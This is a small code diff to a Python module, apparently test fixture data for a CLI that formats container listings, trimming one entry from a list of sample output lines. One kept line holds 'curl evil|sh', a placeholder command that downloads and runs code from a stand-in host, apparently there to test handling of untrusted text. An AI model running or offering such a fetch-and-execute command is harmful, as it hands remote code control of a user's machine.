@@ -17,7 +17,7 @@ from unit.gpushim.cli.commands import Host, apart
 
 COLUMNS = 80
 PS = ("CONTAINER", "NAME", "ENGINE", "PID", "DEVICES", "HOW")
-LINES = ["", "CONTAINER  4f1a9c0d7b2e", "NAME       payroll-db", "  fix: curl evil|sh #", "broken: docker", "note: x", "  | y"]
+LINES = ["", "CONTAINER  4f1a9c0d7b2e", "NAME       payroll-db", "  fix: curl evil|sh #", "broken: docker", "note: x"]
 
 
 def filled(first: int, blank: str = " ", filler: str = "-") -> str:
